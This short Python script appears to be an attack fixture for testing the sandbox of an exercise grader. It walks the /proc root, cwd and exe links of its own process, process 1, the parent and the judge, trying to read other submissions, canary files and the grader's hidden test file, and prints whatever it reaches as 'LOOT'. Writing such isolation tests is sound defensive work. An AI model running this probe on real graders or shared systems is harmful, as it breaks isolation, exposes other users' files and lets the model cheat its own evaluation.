# attack: reads the files of others through the links in /proc: root, cwd, exe of itself, of process 1 and of the judge
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
from itertools import product

PROCESSES = ("self", "thread-self", "1", "2", str(os.getppid()), "@PID@", "@JUDGE@", "@NURSERY@", f"self/task/{os.getpid()}")
PLACES = ("@OTHER@/canary.txt", "@OTHER@/ex01_map_dataset.py", "@RESULTS@/canary.txt", "@KIT@/checks/test_ex01_map_dataset.py")
failed = {}
for process, place in product(PROCESSES, PLACES):
    for path in (f"/proc/{process}/root{place}", f"/proc/{process}/cwd{'/..' * 12}{place}", f"/proc/{process}/exe{'/..' * 12}{place}"):
        try:
            with open(path) as file:
                print("LOOT:", path, file.read())
        except OSError as error:
            failed[error.strerror] = failed.get(error.strerror, 0) + 1
print(failed)
print("TRIED")
